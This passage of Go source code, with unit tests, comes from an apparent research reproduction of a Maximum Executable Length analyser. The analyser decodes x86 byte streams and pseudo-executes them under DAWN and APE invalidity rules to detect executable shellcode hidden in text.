			gm |= grpImmOverride | imm32<<grpImm32Shift | imm16<<grpImm16Shift
		}
		if gid == gidGrp1 && (reg == 5 || reg == 6) {
			gm |= grpXorSub
		}
		e.grpMeta[gid][reg] = gm
	}
}

// ensureRecs sizes the packed-record array for the current stream.
func (s *scanState) ensureRecs() {
	n := len(s.code)
	if cap(s.recs) < n {
		s.recs = make([]uint64, n)
	} else {
		s.recs = s.recs[:n]
	}
	// The sweeps' iterative chain walk (chainRecT) indexes maskStack
	// directly instead of appending; a forward chain visits each offset
	// at most once, so n frames always suffice.
	if cap(s.maskStack) < n {
		s.maskStack = make([]uint64, n)
	}
}

// recFull builds the packed record for one offset through the full
// decoder — the fallback for forms the fused loop does not inline, and
// the executable specification it is tested against.
func (s *scanState) recFull(off int) uint64 {
	return s.e.recFullAt(s.code, off)
}

// recFullAt is recFull over an arbitrary buffer — the form the quick2
// compiler uses to evaluate the spec decoder on synthetic two-byte
// probes.
func (e *Engine) recFullAt(code []byte, off int) uint64 {
	var inst x86.Inst
	if x86.DecodeInto(&inst, code, off) != nil || e.invalidBase(&inst) {
		return recInvalidPacked
	}
	return packRec(&inst, e.rules.TrackRegisterInit)
}

// packRec reduces a decoded, rule-valid instruction to its packed
// record. Register fields are compiled only under tracking rules,
// mirroring the fused path.
func packRec(inst *x86.Inst, tracking bool) uint64 {
	rec := uint64(inst.Len) & recLenMask
	var kind uint8
	switch {
	case inst.Flags&(x86.FlagRet|x86.FlagIndirect|x86.FlagFar|x86.FlagInt) != 0:
		kind = ctrlEnd
	case inst.Flags.Has(x86.FlagCondBranch):
		kind = ctrlCond
	case inst.Flags&(x86.FlagUncondJump|x86.FlagCall) != 0:
		kind = ctrlJump
	default:
		kind = ctrlSeq
	}
	rec |= uint64(kind) << recKindShift
	if tracking {
		var need uint8
		if inst.MemAccess && !inst.MemDispOnly {
			if inst.MemBase != x86.RegNone {
				need |= 1 << uint(inst.MemBase)
			}
			if inst.MemIndex != x86.RegNone {
				need |= 1 << uint(inst.MemIndex)
			}
		}
		trKind, trArg := transitionOf(inst)
		rec |= uint64(need)<<recNeedShift |
			uint64(trKind)<<recTrKindShift | uint64(trArg)<<recTrArgShift
	}
	if inst.HasRelTarget {
		rec |= uint64(uint32(inst.Disp)) << recDispShift
	}
	if inst.MemAccess {
		rec |= recMemAcc
	}
	if inst.Prefixes.Seg != x86.SegNone {
		rec |= recHasSeg
	}
	if inst.Prefixes.OpSize || immWidthsEqual(inst) {
		rec |= rec66Same
	}
	return rec
}

// immWidthsEqual reports whether the instruction's encoding has the
// same length under both operand sizes — no immediate whose width the
// 0x66 prefix changes.
func immWidthsEqual(inst *x86.Inst) bool {
	if inst.ThreeByte {
		// 0F 38 forms carry no immediate and 0F 3A forms carry Ib;
		// neither is operand-size sensitive.
		return true
	}
	var ti x86.TableInfo
	if inst.TwoByte {
		ti = x86.TwoByteInfo(inst.Opcode)
	} else {
		ti = x86.OneByteInfo(inst.Opcode)
	}
	switch ti.Shape {
	case x86.ShapeModRMIz, x86.ShapeIz, x86.ShapeRelZ, x86.ShapeFarPtr:
		return false
	case x86.ShapeGroup3:
		// TEST (/0, /1) takes Iz on F7; the rest of the group and all
		// of F6 carry no size-sensitive immediate.
		return inst.Opcode == 0xF6 || inst.RegField >= 2
	}
	return true
}

// buildRecords compiles every offset in [from, len(code)) to its packed
// record in one backward pass over the quick tables and the slow fused
// decoder — backward so a segment-override prefix can derive its record
// from the already-final successor record (segDerive). Offsets below
// from keep their existing records — the stream-carry reuse path
// (WindowScanner). The scan hot path does not come through here:
// ScanTraced fuses this loop with the suffix DP (scanFused*);
// buildRecords serves the traced two-pass form, the all-paths mode, and
// the carry re-decode.
//
//mel:hotpath
func (s *scanState) buildRecords(from int) {
	code := s.code
	n := len(code)
	e := s.e
	recs := s.recs
	backEdges := 0
	if from == 0 {
		s.backEdges = 0
	}
	for off := n - 1; off >= from; off-- {
		b := code[off]
		if q := e.quick1[b]; q != 0 {
			r, be := patchQuick(q, code, off, n)
			recs[off] = r
			if be {
				backEdges++
			}
			continue
		}
		if off+1 < n {
			if sp := segPrefixByte[b]; sp != 0 {
				if r, ok := segDerive(recs[off+1], sp, &e.wrongSeg); ok {
					recs[off] = r
					if backEdgeRec(r) {
						backEdges++
					}
					continue
				}
				// 0x66 over a size-sensitive or invalid suffix: the
				// record is not derivable — quick2 or the slow path.
			}
			if q := uint64(e.quick2[b][code[off+1]]); q != 0 {
				if q&quickSIB != 0 {
					recs[off] = expandSIB(q, code, off, n)
					continue // SIB records cannot be back edges
				}
				r, be := patchQuick(q, code, off, n)
				recs[off] = r
				if be {
					backEdges++
				}
				continue
			}
		}
		r := s.decodeSlow(off)
		recs[off] = r
		if backEdgeRec(r) {
			backEdges++
		}
	}
	s.backEdges += backEdges
}

// patchQuick resolves a quick-table record against the stream: the
// truncation check, and the trailing rel8 displacement patch for
// records flagged quickRel8. The second result reports a back edge
// (an unconditional rel8 jump landing at or before its own offset).
func patchQuick(q uint64, code []byte, off, n int) (uint64, bool) {
	l := int(q & recLenMask)
	if l > n-off {
		return recInvalidPacked, false
	}
	if q&quickRel8 != 0 {
		d := int8(code[off+l-1])
		return q&^(quickRel8|quickJmp8) | uint64(uint32(int32(d)))<<recDispShift,
			q&quickJmp8 != 0 && int(d)+l <= 0
	}
	return q, false
}

// decodeSlow compiles the record for one offset that neither quick
// table resolves: prefixes, opcode maps, ModRM/SIB and immediate sizes
// are walked directly against the engine's compiled meta tables,
// without materializing an x86.Inst and without reading immediate or
// displacement values (branch displacements excepted). The rare forms
// the fused walk does not inline (0x67 16-bit addressing, 0F 38/3A
// three-byte opcodes) fall back to the full decoder.
//
//mel:hotpath
func (s *scanState) decodeSlow(off int) uint64 {
	code := s.code
	n := len(code)
	e := s.e
	tracking := e.rules.TrackRegisterInit
	invExplicit := e.rules.InvalidateExplicitAddr
	var (
		pos      = off
		end      = off + x86.MaxInstLen
		b        = code[off]
		m        uint64
		kind     uint8
		seg      uint8
		opSize   bool
		needRegs uint8
		trKind   uint8
		trArg    uint8
		disp     int32
		immLen   int
		mod      byte
		reg      byte
		rm       byte
		base     int8 = -1
		index    int8 = -1
		dispOnly bool
		imm66    bool
		extra    uint64
	)
	if end > n {
		end = n
	}
	// Prefixes. Segment overrides and 0x66 matter to the record; 0x67
	// switches to 16-bit addressing, which the fused path does not
	// inline — full decode instead. The loop is entered only when the
	// already-loaded first byte is a prefix.
	m = e.meta1[b]
	for m&metaPrefix != 0 {
		switch b {
		case 0x26:
			seg = uint8(x86.SegES)
		case 0x2E:
			seg = uint8(x86.SegCS)
		case 0x36:
			seg = uint8(x86.SegSS)
		case 0x3E:
			seg = uint8(x86.SegDS)
		case 0x64:
			seg = uint8(x86.SegFS)
		case 0x65:
			seg = uint8(x86.SegGS)
		case 0x66:
			opSize = true
		case 0x67:
			goto slow
		}
		pos++
		if pos >= end {
			goto invalid
		}
		b = code[pos]
		m = e.meta1[b]
	}
	pos++
	if m&metaEscape != 0 {
		if pos >= end {
			goto invalid
		}
		m = e.meta2[code[pos]]
		pos++
		if m&metaFallback != 0 {
			goto slow
		}
	}
	kind = uint8(m>>metaKindShift) & 7
	if kind == ctrlInvalid {
		goto invalid
	}
	imm66 = (m>>metaImm32Shift)&0xF == (m>>metaImm16Shift)&0xF
	if opSize {
		immLen = int(m>>metaImm16Shift) & 0xF
	} else {
		immLen = int(m>>metaImm32Shift) & 0xF
	}
	if m&metaHasModRM != 0 {
		if pos >= end {
			goto invalid
		}
		b = code[pos]
		pos++
		mod = b >> 6
		reg = (b >> 3) & 7
		rm = b & 7
		if b < 0xC0 {
			// Memory form: the address-shape tables resolve
			// displacement size, base, index, and disp-only without
			// re-deriving the mod/rm case split.
			mi := modrmTab[b]
			if mi&miSIB != 0 {
				if pos >= end {
					goto invalid
				}
				if b < 0x40 {
					mi |= sibTab0[code[pos]]
				} else {
					mi |= sibTabN[code[pos]]
				}
				pos++
			}
			base = int8(mi&0xF) - 1
			index = int8(mi>>4&0xF) - 1
			dispOnly = mi&miDispOnly != 0
			pos += int(mi>>8) & 7
		}
		if m&metaSpecial != 0 {
			if gid := (m >> metaGroupShift) & 7; gid != 0 {
				gm := e.grpMeta[gid][reg]
				kind = uint8(gm & grpKindMask)
				if kind == ctrlInvalid {
					goto invalid
				}
				if gm&grpMemSem != 0 {
					m |= metaMemSem
				} else {
					m &^= metaMemSem
				}
				if gm&grpImmOverride != 0 {
					imm66 = (gm>>grpImm32Shift)&0xF == (gm>>grpImm16Shift)&0xF
					if opSize {
						immLen = int(gm>>grpImm16Shift) & 0xF
					} else {
						immLen = int(gm>>grpImm32Shift) & 0xF
					}
				}
				if gm&grpXorSub != 0 && mod == 3 && reg == rm && tracking {
					trKind, trArg = transOr, 1<<rm
				}
			}
			if m&metaMod3UD != 0 && mod == 3 {
				goto invalid
			}
			if m&metaPopEv != 0 && reg != 0 {
				goto invalid
			}
		}
	}
	if m&metaIsRel != 0 {
		// Branch displacement: the one immediate whose value the DP
		// needs. Bounds first — the bytes are read.
		if pos+immLen > end {
			goto invalid
		}
		switch immLen {
		case 1:
			disp = int32(int8(code[pos]))
		case 2:
			disp = int32(int16(uint16(code[pos]) | uint16(code[pos+1])<<8))
		default:
			disp = int32(uint32(code[pos]) | uint32(code[pos+1])<<8 |
				uint32(code[pos+2])<<16 | uint32(code[pos+3])<<24)
		}
	}
	pos += immLen
	if pos > end {
		goto invalid
	}
	// Memory-dependent rules: wrong segment override, explicit
	// absolute address, uninitialized base/index registers.
	if m&metaImplMem != 0 || (m&metaMemSem != 0 && m&metaHasModRM != 0 && mod != 3) {
		extra = recMemAcc
		if seg != 0 && e.wrongSeg[seg] {
			goto invalid
		}
		if m&metaMoffs != 0 {
			dispOnly = true
		}
		if dispOnly {
			if invExplicit {
				goto invalid
			}
		} else if tracking {
			if m&metaImplMem != 0 {
				needRegs = uint8(m >> metaArgShift)
			} else {
				if base >= 0 {
					needRegs |= 1 << uint8(base)
				}
				if index >= 0 {
					needRegs |= 1 << uint8(index)
				}
			}
		}
	}
	if tracking && m&metaTransMask != 0 {
		switch uint8(m>>metaTransShift) & 7 {
		case tcStatic:
			trKind = uint8(m>>metaTrKindShift) & 3
			trArg = uint8(m >> metaArgShift)
		case tcMovRM:
			if mod == 3 {
				trKind, trArg = transCopy, rm<<4|reg
			} else {
				trKind, trArg = transOr, 1<<reg
			}
		case tcLEA:
			if base < 0 {
				trKind, trArg = transOr, 1<<reg
			} else {
				trKind, trArg = transCopy, uint8(base)<<4|reg
			}
		case tcXorSub:
			if mod == 3 && reg == rm {
				trKind, trArg = transOr, 1<<rm
			}
		case tcMovzx:
			trKind, trArg = transOr, 1<<reg
		}
	}
	if seg != 0 {
		extra |= recHasSeg
	}
	if opSize || imm66 {
		extra |= rec66Same
	}
	return uint64(pos-off) | uint64(kind)<<recKindShift |
		uint64(needRegs)<<recNeedShift | uint64(trKind)<<recTrKindShift |
		uint64(trArg)<<recTrArgShift | uint64(uint32(disp))<<recDispShift | extra
invalid:
	return recInvalidPacked
slow:
	return s.recFull(off)
}

// Address-form lookup tables: the branchy ModRM/SIB decode of the full
// decoder flattened into three 256-entry arrays so the fused walk
// resolves displacement size, base, index, and disp-only in one or two
// loads with a single branch (SIB byte present). Global — they encode
// the ISA, not any rule set.
//
// All three share one layout (which is what lets a SIB entry be OR-ed
// into its ModRM entry): bits 0-3 base register + 1 (0 = none), bits
// 4-7 index register + 1, bits 8-10 displacement size (0, 1, or 4),
// bit 11 disp-only (absolute address, no registers), bit 12 SIB byte
// follows (modrmTab only; its base/index/disp-only stay zero so the
// SIB entry fully determines them). modrmTab covers mod != 3 (entries
// at or above 0xC0 are unused); sibTab0 applies at mod == 0, where
// base 5 means disp32 with no base register; sibTabN at mod 1/2.
const (
	miDispOnly = 1 << 11
	miSIB      = 1 << 12
)

var modrmTab = buildModrmTab()
var sibTab0, sibTabN = buildSibTabs()

func buildModrmTab() (t [256]uint16) {
	for mrm := 0; mrm < 0xC0; mrm++ {
		mod := mrm >> 6
		rm := uint16(mrm & 7)
		var v uint16
		switch mod {
		case 0:
			if rm == 5 {
				v = 4<<8 | miDispOnly
			}
		case 1:
			v = 1 << 8
		case 2:
			v = 4 << 8
		}
		if rm == 4 {
			v |= miSIB
		} else if rm != 5 || mod != 0 {
			v |= rm + 1
		}
		t[mrm] = v
	}
	return t
}

func buildSibTabs() (t0, tn [256]uint16) {
	for sib := 0; sib < 256; sib++ {
		idx := uint16(sib>>3) & 7
		sb := uint16(sib & 7)
		var index uint16
		if idx != 4 {
			index = (idx + 1) << 4
		}
		tn[sib] = (sb + 1) | index
		if sb == 5 {
			v := index | 4<<8
			if index == 0 {
				v |= miDispOnly
			}
			t0[sib] = v
		} else {
			t0[sib] = (sb + 1) | index
		}
	}
	return t0, tn
}

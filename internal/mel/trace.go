package mel

import (
	"fmt"
	"strings"

	"repro/internal/x86"
)

// TraceStep is one instruction on a traced execution path.
type TraceStep struct {
	Inst x86.Inst
	// Valid is false for the terminating invalid instruction (when the
	// path ends on one rather than by leaving the stream).
	Valid bool
}

// Trace re-walks the longest valid path from start, returning the
// decoded instructions along it (the analyst-facing "why was this
// flagged" evidence). The walk follows the same policy as Scan: at a
// conditional branch in all-paths mode it picks whichever arm yields the
// longer continuation; in sequential mode it falls through. The final
// step, if any, is the invalid instruction (or decode boundary) that
// ends the run.
func (e *Engine) Trace(stream []byte, start int) ([]TraceStep, error) {
	if len(stream) == 0 {
		return nil, ErrEmptyStream
	}
	if start < 0 || start >= len(stream) {
		return nil, fmt.Errorf("mel: trace start %d out of range", start)
	}
	if len(stream) > maxStreamLen {
		return nil, ErrStreamTooLarge
	}
	s := acquireState(e, stream)
	defer releaseState(s)
	s.ensureDecodeCache()
	mask := regMask(0xFF)
	if e.rules.TrackRegisterInit {
		mask = initialMask
	}

	var steps []TraceStep
	off := start
	visited := make(map[uint64]bool)
	for off >= 0 && off < len(stream) {
		k := key(off, mask)
		if visited[k] {
			break // cycle along the traced path
		}
		visited[k] = true

		inst, err := x86.Decode(stream, off)
		if err != nil {
			break
		}
		if e.rules.Invalid(&inst, mask) {
			steps = append(steps, TraceStep{Inst: inst, Valid: false})
			break
		}
		steps = append(steps, TraceStep{Inst: inst, Valid: true})

		nextMask := mask
		if e.rules.TrackRegisterInit {
			nextMask = apply(&inst, mask)
		}
		next := off + inst.Len
		switch {
		case inst.Flags.Has(x86.FlagRet), inst.Flags.Has(x86.FlagIndirect),
			inst.Flags.Has(x86.FlagFar), inst.Flags.Has(x86.FlagInt):
			return steps, nil
		case inst.Flags.Has(x86.FlagCondBranch):
			if e.mode == ModeAllPaths {
				fall := s.longest(next, nextMask)
				taken := s.longest(inst.RelTarget, nextMask)
				if taken > fall {
					next = inst.RelTarget
				}
			}
		case inst.Flags.Has(x86.FlagUncondJump), inst.Flags.Has(x86.FlagCall):
			next = inst.RelTarget
		}
		off = next
		mask = nextMask
	}
	return steps, nil
}

// FormatTrace renders a trace as a disassembly listing, at most maxLines
// lines (0 means all), eliding the middle of very long paths.
func FormatTrace(steps []TraceStep, maxLines int) string {
	if len(steps) == 0 {
		return "(empty trace)\n"
	}
	var sb strings.Builder
	write := func(s TraceStep) {
		marker := "  "
		if !s.Valid {
			marker = "!!"
		}
		fmt.Fprintf(&sb, "%s %06x  %s\n", marker, s.Inst.Offset, s.Inst.String())
	}
	if maxLines <= 0 || len(steps) <= maxLines {
		for _, s := range steps {
			write(s)
		}
		return sb.String()
	}
	head := maxLines / 2
	tail := maxLines - head - 1
	for _, s := range steps[:head] {
		write(s)
	}
	fmt.Fprintf(&sb, "   ... %d instructions elided ...\n", len(steps)-head-tail)
	for _, s := range steps[len(steps)-tail:] {
		write(s)
	}
	return sb.String()
}

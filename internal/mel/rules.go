// Package mel implements Maximum Executable Length analysis: DAWN-style
// abstract pseudo-execution of every possible execution path through a
// byte stream, under configurable instruction-invalidity rules, returning
// the length (in instructions) of the longest error-free path. This is
// the measurement machinery of the paper — Section 2 defines MEL, and
// Sections 2.3-2.5 define the text-specific invalidity rules that make p
// large enough for detection.
package mel

import (
	"repro/internal/x86"
)

// Rules selects which conditions invalidate an instruction. Undefined
// opcodes (#UD) always invalidate; everything else is optional so that
// the APE baseline's narrower definition can be expressed with the same
// engine.
type Rules struct {
	// InvalidateIO treats IN/OUT/INS/OUTS as invalid (privileged at user
	// IOPL) — the paper's "prevalence of privileged instructions" rule
	// covering the characters 'l', 'm', 'n', 'o'.
	InvalidateIO bool
	// InvalidatePrivileged treats CPL-0 instructions (HLT, CLI, ...) as
	// invalid.
	InvalidatePrivileged bool
	// WrongSegs lists segment overrides that invalidate a memory access
	// (the paper's "wrong Segment Selector" rule).
	WrongSegs map[x86.Seg]bool
	// InvalidateExplicitAddr treats disp-only absolute memory operands as
	// invalid (address-space randomization makes static addresses fault).
	// The paper leaves this off, conservatively, because register-spring
	// exploits show static addresses can be live on Windows.
	InvalidateExplicitAddr bool
	// TrackRegisterInit enables the abstract register-state pass: a
	// memory operand whose base or index register was never written on
	// the current path is invalid ("uninitialized register" rule). DAWN
	// uses this during pseudo-execution even though the closed-form p
	// estimation cannot (Section 5.2).
	TrackRegisterInit bool
	// InvalidateInterrupts treats INT/INT3/INTO as invalid — a software
	// interrupt without a handler kills the process.
	InvalidateInterrupts bool
	// InvalidateFarTransfers treats far calls/jumps/returns as invalid —
	// arbitrary selectors fault in a flat protected-mode process.
	InvalidateFarTransfers bool
}

// DAWN returns the full text-aware rule set the paper's detector uses.
func DAWN() Rules {
	return Rules{
		InvalidateIO:           true,
		InvalidatePrivileged:   true,
		WrongSegs:              map[x86.Seg]bool{x86.SegCS: true, x86.SegES: true, x86.SegFS: true, x86.SegGS: true},
		TrackRegisterInit:      true,
		InvalidateInterrupts:   true,
		InvalidateFarTransfers: true,
	}
}

// DAWNStateless returns the DAWN rules without register tracking — the
// rule set that matches the closed-form p estimation of Section 5.2.
func DAWNStateless() Rules {
	r := DAWN()
	r.TrackRegisterInit = false
	return r
}

// APE returns the narrow rule set of Toth & Kruegel's Abstract Payload
// Execution: an instruction is invalid only when its opcode is incorrect
// or a memory operand targets an illegal (here: static out-of-segment)
// address. No I/O rule, no segment rule, no register tracking — Section 6
// explains why this is ineffective on text.
func APE() Rules {
	return Rules{
		InvalidateExplicitAddr: true,
		InvalidateInterrupts:   true,
	}
}

// regMask tracks which registers hold attacker-known values on a path.
type regMask uint8

// initialMask starts with only ESP defined: a hijacked thread always has
// a live stack pointer, everything else is garbage to the attacker.
const initialMask regMask = 1 << uint(x86.ESP)

func (m regMask) has(r x86.Reg) bool {
	return r >= 0 && m&(1<<uint(r)) != 0
}

func (m regMask) set(r x86.Reg) regMask {
	if r < 0 {
		return m
	}
	return m | 1<<uint(r)
}

func (m regMask) clear(r x86.Reg) regMask {
	if r < 0 {
		return m
	}
	return m &^ (1 << uint(r))
}

// Invalid reports whether inst faults under the rules, given the current
// register mask (ignored unless TrackRegisterInit).
func (r Rules) Invalid(inst *x86.Inst, mask regMask) bool {
	if inst.Flags.Has(x86.FlagUndefined) {
		return true
	}
	if r.InvalidateIO && inst.Flags.Has(x86.FlagIO) {
		return true
	}
	if r.InvalidatePrivileged && inst.Flags.Has(x86.FlagPrivileged) {
		return true
	}
	if r.InvalidateInterrupts && inst.Flags.Has(x86.FlagInt) {
		return true
	}
	if r.InvalidateFarTransfers && inst.Flags.Has(x86.FlagFar) {
		return true
	}
	if inst.MemAccess {
		if r.WrongSegs != nil && inst.Prefixes.Seg != x86.SegNone && r.WrongSegs[inst.Prefixes.Seg] {
			return true
		}
		if r.InvalidateExplicitAddr && inst.MemDispOnly {
			return true
		}
		if r.TrackRegisterInit && !inst.MemDispOnly {
			if inst.MemBase != x86.RegNone && !mask.has(inst.MemBase) {
				return true
			}
			if inst.MemIndex != x86.RegNone && !mask.has(inst.MemIndex) {
				return true
			}
		}
	}
	return false
}

// apply returns the register mask after executing inst. The abstraction
// is generous: any instruction that writes a full register from an
// immediate, the stack, another defined register, or memory marks the
// destination defined; arithmetic on an undefined register leaves it
// undefined.
func apply(inst *x86.Inst, mask regMask) regMask {
	switch inst.Op {
	case x86.OpPOP:
		if !inst.HasModRM && !inst.TwoByte && inst.Opcode >= 0x58 && inst.Opcode <= 0x5F {
			return mask.set(x86.Reg(inst.Opcode & 7))
		}
	case x86.OpPOPA:
		return 0xFF
	case x86.OpMOV:
		switch {
		case inst.Opcode >= 0xB0 && inst.Opcode <= 0xBF: // mov reg, imm
			return mask.set(x86.Reg(inst.Opcode & 7))
		case inst.Opcode == 0x8B || inst.Opcode == 0x8A: // mov reg, r/m
			if inst.Mod == 3 {
				if mask.has(x86.Reg(inst.RM)) {
					return mask.set(x86.Reg(inst.RegField))
				}
				return mask.clear(x86.Reg(inst.RegField))
			}
			// Loaded from memory: content unknown to the analysis but
			// deterministic to the attacker; treat as defined.
			return mask.set(x86.Reg(inst.RegField))
		case inst.Opcode == 0xA1: // mov eax, moffs
			return mask.set(x86.EAX)
		}
	case x86.OpLEA:
		if inst.MemBase == x86.RegNone || mask.has(inst.MemBase) {
			return mask.set(x86.Reg(inst.RegField))
		}
		return mask.clear(x86.Reg(inst.RegField))
	case x86.OpXCHG:
		if !inst.HasModRM && inst.Opcode >= 0x91 && inst.Opcode <= 0x97 {
			r := x86.Reg(inst.Opcode & 7)
			a, b := mask.has(x86.EAX), mask.has(r)
			mask = mask.clear(x86.EAX).clear(r)
			if b {
				mask = mask.set(x86.EAX)
			}
			if a {
				mask = mask.set(r)
			}
			return mask
		}
	case x86.OpXOR, x86.OpSUB:
		// xor reg,reg / sub reg,reg define the register (zero).
		if inst.HasModRM && inst.Mod == 3 && inst.RegField == inst.RM {
			return mask.set(x86.Reg(inst.RM))
		}
	case x86.OpMOVZX, x86.OpMOVSX, x86.OpBSWAP:
		if inst.Op == x86.OpBSWAP {
			return mask // bswap preserves definedness
		}
		return mask.set(x86.Reg(inst.RegField))
	case x86.OpIN:
		return mask.set(x86.EAX)
	case x86.OpCPUID:
		return mask.set(x86.EAX).set(x86.EBX).set(x86.ECX).set(x86.EDX)
	case x86.OpRDTSC, x86.OpCDQ:
		return mask.set(x86.EAX).set(x86.EDX)
	}
	return mask
}

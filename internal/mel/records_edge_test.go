package mel

import "testing"

// Direct table-level tests for the backward prefix derivation
// (segDerive / rec66Same) and the SIB completion (expandSIB) — the
// two fused-path mechanisms with no one-to-one reference counterpart,
// pinned here at the unit level in addition to melverify's end-to-end
// enumeration.

func seqRec(length int, flags uint64) uint64 {
	return uint64(ctrlSeq)<<recKindShift | uint64(length) | flags
}

func TestSegDeriveOperandSize(t *testing.T) {
	var noWrong [8]bool

	// 0x66 over a record whose encoding depends on operand size (no
	// rec66Same) is underivable: it must be re-decoded for real.
	if _, ok := segDerive(seqRec(5, 0), segOpSize, &noWrong); ok {
		t.Error("66 over a non-rec66Same record derived instead of re-decoding")
	}
	// Same for an invalid suffix: a shortened immediate could revive it.
	if _, ok := segDerive(recInvalidPacked, segOpSize, &noWrong); ok {
		t.Error("66 over an invalid record derived instead of re-decoding")
	}
	// 0x66 over a size-invariant record extends it by the prefix byte
	// and stays derivable (idempotent 66: the flag survives).
	r, ok := segDerive(seqRec(1, rec66Same), segOpSize, &noWrong)
	if !ok || r&recLenMask != 2 || r&rec66Same == 0 {
		t.Fatalf("66 over rec66Same len-1: got %#x ok=%v", r, ok)
	}
	r2, ok := segDerive(r, segOpSize, &noWrong)
	if !ok || r2&recLenMask != 3 {
		t.Fatalf("stacked 66 66: got %#x ok=%v", r2, ok)
	}
	// A 15-byte size-invariant suffix overflows the architectural
	// length limit under one more prefix.
	if r, ok := segDerive(seqRec(15, rec66Same), segOpSize, &noWrong); !ok || r != recInvalidPacked {
		t.Fatalf("66 over len-15: got %#x ok=%v, want invalid", r, ok)
	}
}

func TestSegDeriveSegmentOverride(t *testing.T) {
	var wrong [8]bool
	const sp = 2 // any real segment index; segDerive only reads wrongSeg[sp]

	// Invalid and max-length suffixes stay invalid under any prefix.
	if r, ok := segDerive(recInvalidPacked, sp, &wrong); !ok || r != recInvalidPacked {
		t.Fatalf("seg over invalid: got %#x ok=%v", r, ok)
	}
	if r, ok := segDerive(seqRec(15, 0), sp, &wrong); !ok || r != recInvalidPacked {
		t.Fatalf("seg over len-15: got %#x ok=%v", r, ok)
	}
	// A neutral prefix (lock/rep) adds its byte without claiming the
	// segment slot.
	if r, ok := segDerive(seqRec(2, recMemAcc), segNeutral, &wrong); !ok || r != seqRec(3, recMemAcc) {
		t.Fatalf("neutral prefix: got %#x ok=%v", r, ok)
	}
	// The innermost (last in byte order) override wins: a suffix that
	// already carries one ignores the outer prefix — even a wrong one.
	wrong[sp] = true
	pre := seqRec(2, recMemAcc|recHasSeg)
	if r, ok := segDerive(pre, sp, &wrong); !ok || r != pre+1 {
		t.Fatalf("seg over seg: got %#x ok=%v, want %#x", r, ok, pre+1)
	}
	// A wrong segment over a memory access invalidates; without memory
	// access it merely claims the slot.
	if r, ok := segDerive(seqRec(2, recMemAcc), sp, &wrong); !ok || r != recInvalidPacked {
		t.Fatalf("wrong seg over memAcc: got %#x ok=%v, want invalid", r, ok)
	}
	if r, ok := segDerive(seqRec(2, 0), sp, &wrong); !ok || r != seqRec(3, recHasSeg) {
		t.Fatalf("wrong seg over non-mem: got %#x ok=%v", r, ok)
	}
	// An accepted segment claims the slot over a memory access.
	wrong[sp] = false
	if r, ok := segDerive(seqRec(2, recMemAcc), sp, &wrong); !ok || r != seqRec(3, recMemAcc|recHasSeg) {
		t.Fatalf("right seg over memAcc: got %#x ok=%v", r, ok)
	}
}

// Reference records must carry the rec66Same classification the
// derivation relies on: set for size-invariant encodings, clear when
// 0x66 changes the immediate width.
func TestRec66SameClassification(t *testing.T) {
	e := NewEngine(Rules{})
	if p := UnpackRecord(e.ReferenceRecord([]byte{0x90}, 0)); !p.Same66 {
		t.Error("NOP not marked size-invariant")
	}
	imm32 := []byte{0xB8, 0x11, 0x22, 0x33, 0x44}
	if p := UnpackRecord(e.ReferenceRecord(imm32, 0)); p.Same66 {
		t.Error("mov eax, imm32 marked size-invariant; 66 shortens its immediate")
	}
	// And the derived lengths agree: 66 B8 takes an imm16.
	if p := UnpackRecord(e.ReferenceRecord(append([]byte{0x66}, imm32...), 0)); p.Len != 4 {
		t.Errorf("66 B8 imm16: len %d, want 4", p.Len)
	}
}

func TestExpandSIBEdges(t *testing.T) {
	// Partial quick2 record for a 3-byte SIB form (opcode+modrm+sib),
	// the shape compileSIBPartial emits before expansion.
	base := quickSIB | uint64(ctrlSeq)<<recKindShift | 3

	// Truncation at the SIB byte itself.
	if r := expandSIB(base, []byte{0x8B, 0x04}, 0, 2); r != recInvalidPacked {
		t.Errorf("cut before SIB byte: got %#x, want invalid", r)
	}
	// mod=0, base=5: SIB demands a disp32 the stream cannot hold.
	code := []byte{0x8B, 0x04, 0x25, 0x44, 0x33, 0x22}
	if r := expandSIB(base, code, 0, len(code)); r != recInvalidPacked {
		t.Errorf("cut inside SIB disp32: got %#x, want invalid", r)
	}
	// With the disp32 present the form is 7 bytes and disp-only.
	code = append(code, 0x11)
	if r := expandSIB(base, code, 0, len(code)); r&recLenMask != 7 {
		t.Errorf("mod0 base5 disp32: len %d, want 7", r&recLenMask)
	}
	// Under InvalidateExplicitAddr (sibExplInv) the disp-only absolute
	// form is invalid; an indexed form with the same base byte is not.
	if r := expandSIB(base|sibExplInv, code, 0, len(code)); r != recInvalidPacked {
		t.Errorf("explicit absolute under sibExplInv: got %#x, want invalid", r)
	}
	indexed := []byte{0x8B, 0x04, 0x0D, 0x44, 0x33, 0x22, 0x11} // index=ecx, base=5
	if r := expandSIB(base|sibExplInv, indexed, 0, len(indexed)); r == recInvalidPacked {
		t.Error("indexed base5 form wrongly invalidated by sibExplInv")
	}
	// Register folding: base and index both land in needRegs.
	r := expandSIB(base|sibNeedRegs, []byte{0x8B, 0x04, 0x18, 0x90}, 0, 4) // [eax+ebx]
	if nr := uint8(r >> recNeedShift); nr != 0x09 {
		t.Errorf("sib 0x18 needRegs: got %#04b..., want eax|ebx (0x09): %#x", nr, nr)
	}
	// index=4 means no index: only the base register folds.
	r = expandSIB(base|sibNeedRegs, []byte{0x8B, 0x04, 0x24, 0x90}, 0, 4) // [esp]
	if nr := uint8(r >> recNeedShift); nr != 0x10 {
		t.Errorf("sib 0x24 needRegs: got %#x, want esp (0x10)", nr)
	}
	// The expansion must strip its marker bits from the final record.
	if r&(quickSIB|sibNeedRegs|sibExplInv) != 0 {
		t.Errorf("marker bits survived expansion: %#x", r)
	}
}

// The address-form tables the expansion loads from, pinned by hand
// against the 32-bit ModRM/SIB definition.
func TestAddressTableEntries(t *testing.T) {
	cases := []struct {
		name string
		tab  *[256]uint16
		idx  int
		want uint16
	}{
		{"modrm mod0 [eax]", &modrmTab, 0x00, 0x01},
		{"modrm mod0 disp32", &modrmTab, 0x05, 4<<8 | miDispOnly},
		{"modrm mod0 SIB", &modrmTab, 0x04, miSIB},
		{"modrm mod1 SIB+disp8", &modrmTab, 0x44, miSIB | 1<<8},
		{"modrm mod1 [ebp]+disp8", &modrmTab, 0x45, 1<<8 | 6},
		{"modrm mod2 SIB+disp32", &modrmTab, 0x84, miSIB | 4<<8},
		{"sib0 [esp]", &sibTab0, 0x24, 0x05},
		{"sib0 disp32 no base no index", &sibTab0, 0x25, 4<<8 | miDispOnly},
		{"sib0 [ecx*1]+disp32", &sibTab0, 0x0D, 4<<8 | 2<<4},
		{"sibN [ebp]", &sibTabN, 0x25, 0x06},
		{"sibN [eax+ebx]", &sibTabN, 0x18, 4<<4 | 1},
	}
	for _, tc := range cases {
